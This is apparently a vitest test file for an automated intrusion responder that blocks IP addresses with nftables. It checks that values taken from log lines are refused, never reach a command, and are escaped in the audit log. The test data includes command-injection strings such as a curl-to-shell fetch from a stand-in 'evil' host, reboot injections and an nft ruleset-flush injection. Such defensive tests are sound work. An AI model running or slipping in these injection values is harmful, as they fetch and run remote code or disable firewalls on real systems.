import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { MemoryAuditSink } from './audit.ts';
import { createBlockIp } from './block/block-ip.ts';
import { NFT_RULESET, nftBackend } from './block/nft-backend.ts';
import { RecordingRunner } from './exec/run.ts';
import { validatePolicyObject } from './policy.ts';
import { Responder } from './responder.ts';
import { anomaly } from './test-support.ts';

const dir = mkdtempSync(path.join(tmpdir(), 'vigil-hostile-'));
afterAll(() => rmSync(dir, { recursive: true, force: true }));

/** /proc/net look-alike: one established SSH session from 45.33.32.157 (0x9D20212D little-endian). */
const procNet = path.join(dir, 'net');
mkdirSync(procNet);
writeFileSync(
  path.join(procNet, 'tcp'),
  '  sl  local_address rem_address   st\n   0: 0A02000A:0016 9D20212D:D431 01 00000000:00000000\n',
);

function setup(maxConcurrent = 10, confirmQuiet?: (ip: string) => Promise<boolean>) {
  const policy = validatePolicyObject(
    {
      killSwitchFile: path.join(dir, 'no-such-switch'),
      playbooks: {
        'block-ip': { mode: 'auto', maxConcurrent, cooldownSeconds: 0, allowCidrs: ['10.0.0.0/16', '100.64.1.1'] },
        'kill-process': { mode: 'off' },
        'clean-disk': { mode: 'off' },
      },
    },
    'test',
  );
  const runner = new RecordingRunner((_file, args) => ({ code: args[0] === 'get' ? 0 : 0, stdout: '', stderr: '' }));
  const backend = nftBackend(runner, '/usr/sbin/nft');
  const pb = createBlockIp(policy.playbooks['block-ip'], {
    backend,
    procNet,
    localAddresses: () => ['172.31.5.9'],
    confirmQuiet,
  });
  const audit = new MemoryAuditSink();
  return { runner, audit, responder: new Responder({ policy, playbooks: [pb], audit }) };
}

const attack = (ip: string, viaEntity = false) =>
  anomaly({
    type: 'ssh_brute_force',
    entity: viaEntity ? { kind: 'ip', id: ip } : { kind: 'host', id: 'web-1' },
    targets: viaEntity ? undefined : { ip, user: '$(curl evil|sh)', command: "'; reboot; '" },
  });

describe('hostile values from log lines', () => {
  it('never validate as an IP, never reach a command, and are escaped in the audit log', async () => {
    const { runner, audit, responder } = setup();
    const hostile = [
      '1.2.3.4; nft flush ruleset',
      '$(reboot)',
      '`id`',
      "1.2.3.4' || '",
      '1.2.3.4\n5.6.7.8',
      '\u001b[2J\u001b[31m1.2.3.4',
      '1.2.3.4 }; flush ruleset; add element inet vigil vigil_block4 { 9.9.9.9',
      '127.0.0.1',
      '::ffff:127.0.0.1',
      '169.254.169.254',
      '0.0.0.0',
      'ff02::1',
      '10.0.3.4', // VPC CIDR
      '100.64.1.1', // bastion
      '172.31.5.9', // this host
      '45.33.32.157', // the operator's live SSH session
    ];
    for (const ip of hostile) {
      for (const viaEntity of [false, true]) {
        const a = attack(ip, viaEntity);
        a.evidence = { topFeatures: [], lines: [`Failed password for $(id) from ${ip}`] };
        if (!viaEntity) a.evidence.targets = { ip };
        const [entry] = await responder.handle(a);
        expect(entry?.decision, JSON.stringify(ip)).toBe('refused');
        expect(entry.playbook).toBe('block-ip');
        expect(entry.why).not.toMatch(/[\n\u001b]/);
      }
    }
    expect(runner.calls).toEqual([]);
    expect(audit.entries).toHaveLength(hostile.length * 2);
  });

  it('a valid attacker address reaches nft only as a validated, normalised element in argv or a generated script', async () => {
    const { runner, responder } = setup();
    const [entry] = await responder.handle(attack('::ffff:45.33.32.156'));
    expect(entry).toMatchObject({ decision: 'executed', result: 'success', target: '45.33.32.156' });
    expect(runner.calls).toEqual([
      { file: '/usr/sbin/nft', args: ['-f', '-'], input: NFT_RULESET },
      {
        file: '/usr/sbin/nft',
        args: ['-f', '-'],
        input:
          'add element inet vigil vigil_block4 { 45.33.32.156 timeout 1s }\n' +
          'delete element inet vigil vigil_block4 { 45.33.32.156 }\n' +
          'add element inet vigil vigil_block4 { 45.33.32.156 timeout 3600s }\n',
      },
      { file: '/usr/sbin/nft', args: ['get', 'element', 'inet', 'vigil', 'vigil_block4', '{ 45.33.32.156 }'] },
    ]);
  });

  it('caps concurrent blocks', async () => {
    const { responder } = setup(1);
    expect((await responder.handle(attack('45.33.32.156')))[0].decision).toBe('executed');
    expect((await responder.handle(attack('45.33.32.158')))[0]).toMatchObject({
      decision: 'refused',
      why: /cap reached/,
    });
  });

  it("fails verification when the caller's hook says the address is still active", async () => {
    const asked: string[] = [];
    const { responder } = setup(10, async (ip) => {
      asked.push(ip);
      return false;
    });
    const [entry] = await responder.handle(attack('45.33.32.156'));
    expect(entry).toMatchObject({
      decision: 'executed',
      result: 'failure',
      verify: { ok: false, detail: /still active/ },
    });
    expect(asked).toEqual(['45.33.32.156']);
  });
});
